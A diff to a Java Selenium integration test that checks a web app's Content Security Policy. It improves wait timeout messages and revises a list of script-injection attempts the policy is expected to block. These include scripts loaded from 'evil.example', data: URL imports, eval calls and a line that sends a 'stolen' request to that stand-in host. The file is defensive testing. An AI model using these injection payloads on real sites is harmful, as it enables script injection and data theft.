@@ -102,7 +102,7 @@ class ContentPolicyIT {
                         .toList();
         for (String path : paths) {
             go(path);
-            settle();
+            settle(path);
             assertThat(stopped()).as("stopped at /" + path).isEmpty();
             assertThat(complaints()).as("console of /" + path).isEmpty();
         }
@@ -187,7 +187,8 @@ class ContentPolicyIT {
                 "script-src-elem | const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; page.append(s)",
                 "script-src-elem | const s = document.createElement('script'); s.src = '/VAADIN/static/push/vaadinPush-min.js'; page.append(s)",
                 "script-src-elem | const s = document.createElement('script'); s.src = 'data:text/javascript,window.hit=true'; page.append(s)",
-                "script-src-elem | import('data:text/javascript,window.hit=true').catch(() => 0)",
+                "script-src-elem | Function('import(\\'data:text/javascript,window.hit=true\\').catch(() => 0)')()",
+                "script-src-elem | Function('import(\\'https://evil.example/?stolen\\').catch(() => 0)')()",
                 "script-src-elem | const a = document.createElement('a'); a.href = 'javascript:window.hit=true'; page.append(a); a.click()",
                 "script-src | try { eval('window.hit = true') } catch (e) { }",
                 "script-src | setTimeout('window.hit = true', 0)",
@@ -260,7 +261,11 @@ class ContentPolicyIT {
 
     /** Until the page stands, its charts are drawn and Flow has nothing left to ask. */
     private static void settle() {
-        await(d -> !d.findElements(By.id("content")).isEmpty());
+        settle("the page");
+    }
+
+    private static void settle(String page) {
+        waiting(page).until(d -> !d.findElements(By.id("content")).isEmpty());
         await(d ->
                 Objects.equals(
                         true,
@@ -291,6 +296,12 @@ class ContentPolicyIT {
     }
 
     private static <T> T await(Function<WebDriver, T> condition) {
-        return new WebDriverWait(driver, Duration.ofSeconds(20)).until(condition);
+        return waiting("something").until(condition);
+    }
+
+    private static WebDriverWait waiting(String what) {
+        WebDriverWait wait = new WebDriverWait(driver, Duration.ofSeconds(20));
+        wait.withMessage(what);
+        return wait;
     }
 }
